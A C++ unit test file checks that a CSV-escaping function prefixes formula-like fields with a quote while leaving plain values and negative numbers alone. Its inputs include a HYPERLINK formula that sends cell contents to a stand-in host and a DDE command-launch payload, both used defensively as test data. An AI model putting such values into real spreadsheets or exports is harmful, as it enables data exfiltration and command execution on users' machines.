#include "text/csv_text.h"

#include <gtest/gtest.h>

namespace {

// What a spreadsheet would run as a formula is written as text; numbers,
// negative ones too, stay numbers.
TEST(CsvText, fields_a_spreadsheet_would_take_for_formulas_are_written_as_text) {
  EXPECT_EQ(text::csv_text_field("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(text::csv_text_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(text::csv_text_field("-2+3"), "'-2+3");
  EXPECT_EQ(text::csv_text_field("-"), "'-");
  EXPECT_EQ(text::csv_text_field("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(text::csv_text_field("\t=1"), "'\t=1");
  EXPECT_EQ(text::csv_text_field("\r=1"), "\"'\r=1\"");
  for (const char* plain : {"anna", "4.1", "", "-12", "-0.5", "a=b", "x-1", "'quoted"}) {
    EXPECT_EQ(text::csv_text_field(plain), plain);
  }
  EXPECT_EQ(text::csv_text_field("-1."), "'-1.");
  EXPECT_EQ(text::csv_text_field("-1.2.3"), "'-1.2.3");
}

}  // namespace
